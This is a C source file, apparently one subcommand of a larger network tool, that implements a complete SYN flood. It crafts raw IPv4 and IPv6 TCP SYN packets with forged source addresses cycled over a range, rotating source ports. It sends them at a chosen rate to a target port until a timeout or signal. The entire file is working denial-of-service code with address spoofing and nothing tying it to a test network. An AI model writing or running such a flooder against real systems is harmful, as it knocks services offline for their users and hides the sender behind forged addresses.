// A SYN flood: half a handshake, as often as it is told, from many ports and many addresses.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tool.h"

enum { kBurst = 64 };

static volatile sig_atomic_t ended;

static void end(int number) {
  (void)number;
  ended = 1;
}

static uint32_t add_words(const void* data, size_t size, uint32_t sum) {
  uint16_t word;
  for (size_t i = 0; i < size; i += sizeof word) {
    memcpy(&word, (const char*)data + i, sizeof word);
    sum += word;
  }
  return sum;
}

static uint16_t fold(uint32_t sum) {
  sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t) ~((sum & 0xffff) + (sum >> 16));
}

static size_t write_v4(unsigned char* out, const struct in6_addr* from, const struct in6_addr* to) {
  struct iphdr ip = {.version = 4,
                     .ihl = 5,
                     .tot_len = htons(sizeof ip + sizeof(struct tcphdr)),
                     .ttl = 64,
                     .protocol = IPPROTO_TCP};  // the kernel fills in the checksum
  memcpy(&ip.saddr, from->s6_addr + 12, sizeof ip.saddr);
  memcpy(&ip.daddr, to->s6_addr + 12, sizeof ip.daddr);
  memcpy(out, &ip, sizeof ip);
  return sizeof ip;
}

static size_t write_v6(unsigned char* out, const struct in6_addr* from, const struct in6_addr* to) {
  const struct ip6_hdr ip = {.ip6_flow = htonl(6U << 28),
                             .ip6_plen = htons(sizeof(struct tcphdr)),
                             .ip6_nxt = IPPROTO_TCP,
                             .ip6_hlim = 64,
                             .ip6_src = *from,
                             .ip6_dst = *to};
  memcpy(out, &ip, sizeof ip);
  return sizeof ip;
}

// Returns its size. IPv4 addresses are v4-mapped ones.
static size_t make_syn(unsigned char* out, const struct in6_addr* from, const struct in6_addr* to,
                       uint16_t sport, uint16_t dport) {
  const size_t ip = IN6_IS_ADDR_V4MAPPED(to) ? write_v4(out, from, to) : write_v6(out, from, to);
  struct tcphdr tcp = {.source = htons(sport),
                       .dest = htons(dport),
                       .seq = htonl((uint32_t)sport << 8),
                       .doff = 5,
                       .syn = 1,
                       .window = htons(1024)};
  uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof tcp);
  sum = add_words(from, sizeof *from, sum);  // the ffff of a mapped address counts as 0
  sum = add_words(to, sizeof *to, sum);
  tcp.check = fold(add_words(&tcp, sizeof tcp, sum));
  memcpy(out + ip, &tcp, sizeof tcp);
  return ip + sizeof tcp;
}

// A raw socket that takes whole packets, connected to nothing; `to` becomes what sendto() wants.
static int open_raw(const struct sockaddr_in6* target, struct sockaddr_storage* to) {
  const int v4 = IN6_IS_ADDR_V4MAPPED(&target->sin6_addr);
  const int fd = socket(v4 ? AF_INET : AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) fail("raw socket");
  memcpy(to, target, sizeof *target);
  if (v4) {
    struct sockaddr_in short_form = {.sin_family = AF_INET};
    memcpy(&short_form.sin_addr, target->sin6_addr.s6_addr + 12, sizeof short_form.sin_addr);
    memcpy(to, &short_form, sizeof short_form);
  }
  return fd;
}

static struct in6_addr nth_after(struct in6_addr first, uint32_t n) {
  uint32_t last;
  memcpy(&last, first.s6_addr + 12, sizeof last);
  last = htonl(ntohl(last) + n);
  memcpy(first.s6_addr + 12, &last, sizeof last);
  return first;
}

// syns [-t MS] SOURCE COUNT ADDRESS PORT RATE: a SYN from SOURCE and each of the COUNT - 1
// addresses after it in turn, RATE a second for MS or until SIGTERM, each from the next port.
// Answers to them are not this program's business. Prints how many it sent.
int syns(int argc, char** argv, const struct options* o) {
  if (argc != 5) return 2;
  const struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  const struct sockaddr_in6 first = address(argv[0], "0"), target = address(argv[2], "0");
  struct sockaddr_storage to;
  const int fd = open_raw(&target, &to);
  const socklen_t to_size =
      to.ss_family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6);
  const uint32_t sources = (uint32_t)atoi(argv[1]);
  const uint16_t port = (uint16_t)atoi(argv[3]);
  const long rate = atol(argv[4]);
  const long start = now_ms();
  unsigned long sent = 0;
  puts("ready");
  fflush(stdout);
  while (!ended && now_ms() - start < o->timeout) {
    if ((long)sent > (now_ms() - start) * rate / 1000) {
      usleep(1000);
      continue;
    }
    for (int i = 0; i < kBurst; i++, sent++) {
      const struct in6_addr from = nth_after(first.sin6_addr, (uint32_t)(sent % sources));
      unsigned char syn[sizeof(struct ip6_hdr) + sizeof(struct tcphdr)];
      const size_t size =
          make_syn(syn, &from, &target.sin6_addr, (uint16_t)(1024 + sent / sources % 64000), port);
      if (sendto(fd, syn, size, 0, (const struct sockaddr*)&to, to_size) < 0 && errno != ENOBUFS)
        return say(errno);
    }
  }
  printf("sent %lu\n", sent);
  return 0;
}
